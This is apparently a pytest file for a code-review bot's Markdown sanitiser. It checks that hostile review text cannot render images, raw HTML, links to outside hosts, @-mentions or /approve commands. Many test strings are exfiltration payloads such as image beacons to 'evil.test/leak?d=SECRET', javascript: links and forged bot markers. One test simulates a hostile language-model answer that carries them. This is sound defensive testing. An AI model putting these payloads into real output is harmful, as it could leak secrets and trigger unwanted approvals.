"""The one Markdown sanitiser: every CommonMark image and link form, HTML, pings, commands; code kept.

Each case is checked twice: on the text (what is posted) and by parsing the
result as CommonMark again and walking its tree (what GitHub would render):
no image node, no HTML node, no link to another host may survive.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from reviewbot.markup import WORD_JOINER, Policy, code_span, fenced, one_line, sanitize

EVIL = "https://evil.test/leak?d=SECRET"


def rendered_nodes(text: str) -> list[SyntaxTreeNode]:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    stack, found = [SyntaxTreeNode(parser.parse(text))], []
    while stack:
        node = stack.pop()
        found.append(node)
        stack.extend(node.children)
    return found


def assert_inert(text: str) -> None:
    """Nothing in `text` would fetch, embed HTML or link to a host other than github.com."""
    for node in rendered_nodes(text):
        assert node.type not in ("image", "html_inline", "html_block"), (node.type, text)
        if node.type == "link":
            href = str(node.attrs.get("href", ""))
            relative = not re.match(r"[A-Za-z][A-Za-z0-9+.-]*:|//", href)
            assert relative or href.startswith("https://github.com/"), (href, text)


# --- images: every form CommonMark has, and the two that bypassed the old filter ---

IMAGES = {
    "inline": f"![alt]({EVIL})",
    "inline, angle destination and title": f'![alt](<{EVIL}> "title")',
    "full reference": f"![alt][ref]\n\n[ref]: {EVIL}",
    "collapsed reference": f"![alt][]\n\n[alt]: {EVIL}",
    "shortcut reference (bypass 1)": f"![alt]\n\n[alt]: {EVIL}",
    "shortcut, definition first": f"[alt]: {EVIL}\n\n![alt]",
    "case-insensitive label": f"![ALT]\n\n[alt]: {EVIL}",
    "definition inside a quote": f"![alt]\n\n> [alt]: {EVIL}",
    "definition inside a list item": f"![alt]\n\n- [alt]: {EVIL}",
    "definition with title on the next line": f'![alt]\n\n[alt]:\n{EVIL}\n"t"',
    "nested brackets (bypass 2)": f"![a[b]c]({EVIL})",
    "deeply nested brackets": f"![a[b[c]d]e]({EVIL})",
    "image inside an image's alt": f"![a ![b]({EVIL}) c]({EVIL})",
    "image inside a link": f"[![badge]({EVIL})](https://github.com/o/r)",
    "image in a heading": f"# Title ![x]({EVIL})",
    "image in a table cell": f"| a |\n|---|\n| ![x]({EVIL}) |",
    "image in emphasis": f"**![x]({EVIL})**",
    "entity-encoded bang": f"&#33;[x]({EVIL})",
    "backslash before the bang": f"\\![x]({EVIL})",
    "raw img tag inline": f'text <img src="{EVIL}"> more',
    "raw img tag block": f'<img src="{EVIL}">',
    "picture element": f'<picture><source srcset="{EVIL}"></picture>',
    "svg in html block": f'<div>\n<svg><image href="{EVIL}"/></svg>\n</div>',
}


@pytest.mark.parametrize("text", IMAGES.values(), ids=IMAGES.keys())
def test_no_image_of_any_form_survives(text: str) -> None:
    out = sanitize(text)
    assert_inert(out)
    assert "evil.test" not in out.replace(code_span(EVIL), "")  # only ever shown as code


def test_an_image_leaves_its_alt_text() -> None:
    assert sanitize(f"see ![a diagram]({EVIL}) here") == "see a diagram here"
    assert sanitize(f"![a[b]c]({EVIL})") == "a\\[b\\]c"
    assert sanitize(f"![alt]\n\n[alt]: {EVIL}") == "alt"


# --- links: other hosts are shown as code, the repository's host stays a link ---

LINKS = {
    "inline": (f"[docs]({EVIL})", f"docs ({code_span(EVIL)})"),
    "full reference": (f"[docs][r]\n\n[r]: {EVIL}", f"docs ({code_span(EVIL)})"),
    "collapsed reference": (f"[docs][]\n\n[docs]: {EVIL}", f"docs ({code_span(EVIL)})"),
    "shortcut reference": (f"[docs]\n\n[docs]: {EVIL}", f"docs ({code_span(EVIL)})"),
    "autolink": (f"<{EVIL}>", code_span(EVIL)),
    "email autolink": ("<me@evil.test>", code_span("mailto:me@evil.test")),
    "bare URL (GitHub autolinks it)": (f"go {EVIL} now", f"go {code_span(EVIL)} now"),
    "bare www (GitHub autolinks it)": ("go www.evil.test/x now", f"go {code_span('www.evil.test/x')} now"),
    "javascript scheme (not a link in CommonMark)": ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
    "data scheme (not a link in CommonMark)": ("[x](data:text/html,hi)", "\\[x\\](data:text/html,hi)"),
    "mailto": ("[x](mailto:a@evil.test)", f"x ({code_span('mailto:a@evil.test')})"),
    "protocol-relative": ("[x](//evil.test/a)", f"x ({code_span('//evil.test/a')})"),
    "look-alike host": ("[x](https://github.com.evil.test/)", f"x ({code_span('https://github.com.evil.test/')})"),
    "credentials before the host": ("[x](https://github.com@evil.test/)", f"x ({code_span('https://github.com@evil.test/')})"),
}


@pytest.mark.parametrize(("text", "expected"), LINKS.values(), ids=LINKS.keys())
def test_links_to_other_hosts_are_shown_as_code(text: str, expected: str) -> None:
    out = sanitize(text)
    assert out == expected
    assert_inert(out)


def test_links_to_the_repositorys_host_and_relative_links_stay_links() -> None:
    assert sanitize("[PR](https://github.com/o/r/pull/1)") == "[PR](<https://github.com/o/r/pull/1>)"
    assert sanitize("<https://github.com/o/r>") == "<https://github.com/o/r>"
    assert sanitize("[file](/o/r/blob/main/a.py)") == "[file](</o/r/blob/main/a.py>)"
    assert sanitize("[docs][d]\n\n[d]: https://github.com/o/r/wiki") == "[docs](<https://github.com/o/r/wiki>)"


def test_a_github_enterprise_host_is_chosen_by_the_caller() -> None:
    ghes = Policy(hosts=("github.example.com",))
    assert sanitize("[x](https://github.example.com/o/r)", ghes) == "[x](<https://github.example.com/o/r>)"
    assert sanitize("[x](https://github.com/o/r)", ghes) == f"x ({code_span('https://github.com/o/r')})"


def test_link_reference_definitions_are_never_written() -> None:
    out = sanitize(f"text\n\n[unused]: {EVIL}\n[other]: <{EVIL}> 'title'")
    assert out == "text"


# --- raw HTML, pings, slash commands, hidden markers ---


def test_raw_html_is_dropped_inline_and_as_blocks() -> None:
    assert sanitize("a <b>bold</b> <span onclick=x>c</span> d") == "a bold c d"
    assert sanitize("before\n\n<details>\n<summary>x</summary>\nhidden\n</details>\n\nafter") == "before\n\nafter"
    assert sanitize("a <!-- hidden --> b") == "a  b"


def test_mentions_are_code_so_nobody_is_notified() -> None:
    out = sanitize("ping @octocat and @acme/security-team, mail a@b.com, keep `@cache`")
    assert out == "ping `@octocat` and `@acme/security-team`, mail a@b.com, keep `@cache`"


def test_slash_commands_at_the_start_of_a_line_are_code() -> None:
    assert sanitize("ok\n/approve\n> /merge now") == "ok\n`/approve`\n\n> `/merge` now"
    assert sanitize("/etc/hosts is a path") == "/etc/hosts is a path"


def test_a_reviewbot_marker_cannot_be_forged_even_in_code() -> None:
    marker = "<!-- reviewbot:v1 principle=x depth=0 fp=00 -->"
    for text in (marker, f"`{marker}`", f"```\n{marker}\n```"):
        assert "<!-- reviewbot" not in sanitize(text).replace(WORD_JOINER, "X").replace("<X!--", "")
    assert f"<{WORD_JOINER}!-- reviewbot:v1" in fenced(marker)
    assert fenced("<!-- an ordinary comment -->") == "```\n<!-- an ordinary comment -->\n```"


# --- code is kept byte for byte ---

CODE = {
    "code span with HTML and an image": "use `<img src=x>` and `![a](b)` here",
    "code span with backticks": "run ``a `b` c`` now",
    "code span padded": "see `` `x` `` here",
    "fenced JSX": "```jsx\nconst A = () => <div onClick={f}>{/* c */}<img src={u} /></div>;\n```",
    "fenced HTML with a comment": "```html\n<!-- note -->\n<script>alert(1)</script>\n```",
    "fenced with // and @": "```js\n// @param x see https://evil.test ![i](u)\n```",
    "suggestion": "```suggestion\ndef add(item, items=None):\n    items = [] if items is None else items\n```",
    "tilde fence holding backticks": "~~~\n```\ninner\n```\n~~~",
}


@pytest.mark.parametrize("text", CODE.values(), ids=CODE.keys())
def test_code_keeps_its_bytes(text: str) -> None:
    before = [(n.type, n.content) for n in rendered_nodes(text) if n.type in ("code_inline", "fence")]
    after = [(n.type, n.content) for n in rendered_nodes(sanitize(text)) if n.type in ("code_inline", "fence")]
    assert after == before


def test_suggestion_blocks_keep_their_info_word_and_bytes() -> None:
    text = "Try this:\n\n```suggestion\nx = <T>(a) => a // @bob\n```"
    assert sanitize(text) == text


def test_indented_code_becomes_a_fence_with_the_same_bytes() -> None:
    assert sanitize("text\n\n    <b>code</b>\n") == "text\n\n```\n<b>code</b>\n```"


def test_blocks_github_draws_as_pictures_show_as_code() -> None:
    assert sanitize("```mermaid\ngraph TD; A-->B\n```") == "```\ngraph TD; A-->B\n```"


# --- structure and plain text survive; the result is stable ---


def test_structure_is_kept() -> None:
    text = "# Title\n\nSome *em* and **strong** and ~~gone~~.\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n---"
    assert sanitize(text) == text


def test_plain_prose_reads_as_written() -> None:
    text = "Use snake_case names; a < b and b > c; 2 * 3 = 6; cost: $5 & more."
    assert sanitize(text) == "Use snake_case names; a < b and b > c; 2 * 3 = 6; cost: \\$5 & more."


def test_text_that_would_start_a_block_is_escaped() -> None:
    assert sanitize("a\n\\# not a heading\n\\- not a list") == "a\n\\# not a heading\n\\- not a list"


@pytest.mark.parametrize("text", [*IMAGES.values(), *(t for t, _ in LINKS.values()), *CODE.values()])
def test_sanitising_twice_changes_nothing(text: str) -> None:
    once = sanitize(text)
    assert sanitize(once) == once


def test_one_line_and_code_span() -> None:
    assert one_line("a\n  b\tc ![x](u) @bob") == "a b c x `@bob`"
    assert code_span("a`b") == "``a`b``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span(" x ") == "`  x  `"
    assert fenced("a\n```\nb", "suggestion") == "````suggestion\na\n```\nb\n````"


# --- the real program: a hostile model answer through `reviewbot check --format markdown` ---


def test_a_hostile_model_answer_reaches_the_markdown_report_inert(git_repo) -> None:
    import os
    import subprocess
    import sys

    from conftest import GitRepo
    from llm_http import RecordingLLM

    hostile = (
        f"Looks fine ![a[b]c]({EVIL}) and ![x]\n\n[x]: {EVIL}\n\n"
        f'<img src="{EVIL}"> see [docs]({EVIL}) @maintainers\n/approve\n\n'
        "```suggestion\nvalue = compute()  # <b>kept</b>\n```"
    )

    def answer(body: dict) -> list[dict]:
        return [{
            "path": "app.py", "line": 1, "end_line": None, "severity": "warning", "category": "readability",
            "title": f"![t]({EVIL}) Title @team", "body": hostile, "suggestion": None, "principle_id": None,
            "new_principle_name": "Named values", "why": f"![w]\n\n[w]: {EVIL}",
        }]  # fmt: skip

    git_repo.write("app.py", "value = 1\n")
    git_repo.commit("initial")
    git_repo.write("app.py", "value = 2\n")
    with RecordingLLM(answer) as llm:
        env = {
            "PATH": os.environ["PATH"], **GitRepo.ENV, "HOME": str(git_repo.path.parent),
            "OPENAI_API_KEY": "sk-test", "REVIEWBOT_MODEL": "m", "REVIEWBOT_BASE_URL": llm.base_url,
        }  # fmt: skip
        done = subprocess.run(
            [sys.executable, "-m", "reviewbot", "check", "--git", "HEAD", "--format", "markdown"],
            cwd=git_repo.path, env=env, capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    report = done.stdout
    assert "Looks fine" in report and "`@maintainers`" in report and "`/approve`" in report
    assert "```suggestion\nvalue = compute()  # <b>kept</b>\n```" in report
    nodes = rendered_nodes(report)
    assert not [n for n in nodes if n.type in ("image", "html_inline")]
    assert not [n for n in nodes if n.type == "link" and "evil" in str(n.attrs.get("href"))]
    blocks = [n.content for n in nodes if n.type == "html_block"]
    assert all(b.startswith(("<details>", "</details>")) for b in blocks), blocks  # only the report's own


# --- seams between pieces: what one piece ends with must not open a construct with the next ---

SEAMS = {
    "entity bang before a github link": "&#33;[x](https://github.com/o/r)",
    "lt entity before a dropped comment and a word": "&lt;<!-- x -->!doctype html>",
    "lt entity before an image's alt text": f"&lt;![img]({EVIL}) src=x>",
    "lt entity before an email autolink": "&lt;1.@bob>",
    "two URLs side by side": f"www.evil.test<{EVIL}>",
}


@pytest.mark.parametrize("text", SEAMS.values(), ids=SEAMS.keys())
def test_seams_between_pieces_open_nothing(text: str) -> None:
    assert_inert(sanitize(text))


def test_a_mention_right_after_another_is_code_too() -> None:
    assert sanitize("@bob@alice and `x`@carol") == "`@bob@alice` and `x` `@carol`"


def test_random_markdown_soup_never_renders_an_image_html_or_a_link_out() -> None:
    import random

    atoms = ["![", "[", "]", "(", ")", "<", ">", "`", "```", "\n", "\n\n", " ", "    ", "*", "_", "!", "#", "-",
             "1.", "|", "\\", "&#33;", "&lt;", EVIL, "https://github.com/a", "<img src=x>", "<!--", "-->", "@bob",
             "/approve", f"[a]: {EVIL}", '"t"', ":", "a", "> ", "www.evil.test", f"<{EVIL}>", "~"]  # fmt: skip
    chooser = random.Random(20260101)
    for _ in range(1500):
        text = "".join(chooser.choice(atoms) for _ in range(chooser.randint(1, 30)))
        assert_inert(sanitize(text))
